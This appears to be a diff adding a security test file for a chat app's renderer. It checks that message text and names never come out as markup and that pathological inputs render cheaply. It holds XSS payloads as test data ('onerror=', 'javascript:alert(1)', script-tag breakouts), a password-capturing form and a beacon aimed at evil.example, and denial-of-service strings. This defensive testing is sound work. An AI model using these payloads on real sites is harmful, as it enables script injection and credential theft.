@@ -1,0 +1,165 @@
+"""Texts: what somebody says stays text wherever it is shown, and costs little however poisonous it is."""
+
+import re
+import time
+from html.parser import HTMLParser
+from typing import Final
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from chat.errors import BadText, ChatError
+from chat.feed import fragment
+from chat.model.member import FIRST_NUMBER, Member
+from chat.model.message import TEXT_LIMIT, Draft, Message, now
+from chat.model.spelling import clean_name
+from chat.words import words_of
+
+OURS: Final = {'div', 'span', 'p', 'a', 'time', 'i', 'button', 'b', 'br', 'li', 'ul', 'svg', 'path'}
+MEMBER: Final = Member(number=FIRST_NUMBER, name='Mallory')
+SLOWER: Final = 25.0  # times that rendering a poisonous text may take as long as a plain one of its length
+PATIENT: Final = 20.0  # ms
+
+POISON: Final = [
+    '>' * 4000,
+    '[' * 4000,
+    '[a](b' * 800,
+    '*' * 4000,
+    '**a' * 1333,
+    '_a_' * 1333,
+    '`' * 4000,
+    '<' * 4000,
+    '&' * 4000,
+    '&#' * 2000,
+    '</script>' * 444,
+    'http://' * 571,
+    'https://a.b' * 363,
+    'www.' * 1000,
+    'a.' * 2000,
+    'http://a' + '.a' * 1996,
+    'https://' + '(' * 3992,
+    'https://a.example/' + ')' * 3982,
+    'https://a.example/' + '?' * 3982,
+    '@' * 4000,
+    ':' * 4000,
+    '\n' * 3999 + 'x',
+    ' ' * 3999 + 'x',
+    '\u0301' * 3999 + 'x',
+    '\u202e' * 3999 + 'x',
+    '\u200b' * 3999 + 'x',
+    '👩\u200d👩\u200d👧' * 800,
+    'ﷺ' * 4000,
+    'İ' * 4000,
+    '\ud800' * 3999 + 'x',
+    '#' * 4000,
+    '- ' * 2000,
+    '1. ' * 1333,
+    '| ' * 2000,
+    '~' * 4000,
+    '$' * 4000,
+    '\\' * 4000,
+    '"' * 4000,
+    'java\nscript:alert(1) ' * 190,
+]
+
+
+def rendered(text: str) -> str:
+    """The fragment of a message, or nothing if it is refused."""
+    try:
+        draft = Draft(text=text).checked()
+    except BadText:
+        return ''
+    message = Message(seq=1, author=MEMBER, text=draft.text, at=now(), client_msg_id=draft.client_msg_id)
+    return fragment.message(message, None)
+
+
+class Tags(HTMLParser):
+    """What of a fragment a browser takes for markup."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ''
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+PLAIN: Final = [tag for tag, _ in Tags(rendered('x')).tags]
+ATTRIBUTES: Final = {(tag, name) for tag, given in Tags(rendered('x https://a.example/')).tags for name in given}
+MARKUP: Final = st.lists(
+    st.sampled_from(
+        ['<', '>', '"', "'", '=', '/', '&', '&lt;', '&#60;', 'script', 'img src=x onerror=', 'svg onload=', 'a href=',
+         'javascript:', 'java\tscript:', 'data:text/html,', 'https://a.example/', 'www.a.example', ' ', '\n', '`', '${',
+         '{{', '}}', 'style=', '<!--', '-->', ']]>', '<form action=', '</p>', '</div>', '\x00', '\u2028', 'x']
+    ),
+    max_size=30,
+).map(''.join)  # fmt: skip
+
+
+@pytest.mark.attack('T4')
+@given(st.one_of(st.text(max_size=300), MARKUP))
+@example('\ud800')
+@example('x' * (TEXT_LIMIT + 1))
+def test_rendering_never_raises(text: str) -> None:
+    rendered(text)
+
+
+@pytest.mark.attack('T4')
+@pytest.mark.parametrize('text', POISON, ids=lambda text: ascii(text[:12]))
+def test_a_poisonous_text_costs_little_more_than_a_plain_one(text: str) -> None:
+    assert len(text) <= TEXT_LIMIT
+    assert best_of(text) < max(SLOWER * best_of('plain words ' * 333), PATIENT), 'ms'
+
+
+def best_of(text: str) -> float:
+    """The fewest ms of CPU that rendering took: whatever else this machine does makes others longer."""
+    times = []
+    for _ in range(5):
+        start = time.thread_time()
+        rendered(text)
+        times.append(time.thread_time() - start)
+    return 1000 * min(times)
+
+
+@pytest.mark.attack('T5')
+@given(MARKUP)
+@example('<form action=https://evil.example><input name=password></form>')
+@example('<style>body{display:none}</style><div class="fixed" style="position:fixed;inset:0">')
+@example('<img src=https://evil.example/beacon>')
+@example('[click](javascript:alert(1)) java&#10;script:alert(1) https://a.example/"onmouseover="alert(1)')
+@example('https://a.example/?"><script>alert(1)</script>')
+def test_no_markup_of_a_message_comes_out_as_markup(text: str) -> None:
+    found = Tags(rendered(text))
+    if not found.tags:
+        return
+    kinds = [tag for tag, _ in found.tags if tag != 'a']
+    assert kinds == PLAIN, 'nothing but links is added to what every message has'
+    assert {(tag, name) for tag, given in found.tags for name in given} <= ATTRIBUTES
+    for tag, attributes in found.tags:
+        if tag == 'a' and 'href' in attributes:
+            assert re.match(r'https?://|/rooms/', attributes['href'] or ''), attributes
+
+
+@pytest.mark.attack('T3')
+@given(st.one_of(MARKUP, st.text(max_size=40)))
+@example('<img src=x onerror=alert(1)>')
+@example('"><b>x')
+def test_no_markup_of_a_name_comes_out_as_markup(name: str) -> None:
+    try:
+        member = Member(number=5, name=clean_name(name))
+    except ChatError:
+        return
+    message = Message(seq=1, author=member, text='x', at=now(), client_msg_id='1')
+    plain = Message(seq=1, author=Member(number=5, name='x'), text='x', at=now(), client_msg_id='1')
+    for html, usual in (
+        (fragment.message(message, None), fragment.message(plain, None)),
+        (fragment.ghost(member, words_of('en')), fragment.ghost(plain.author, words_of('en'))),
+    ):
+        assert [tag for tag, _ in Tags(html).tags] == [tag for tag, _ in Tags(usual).tags]
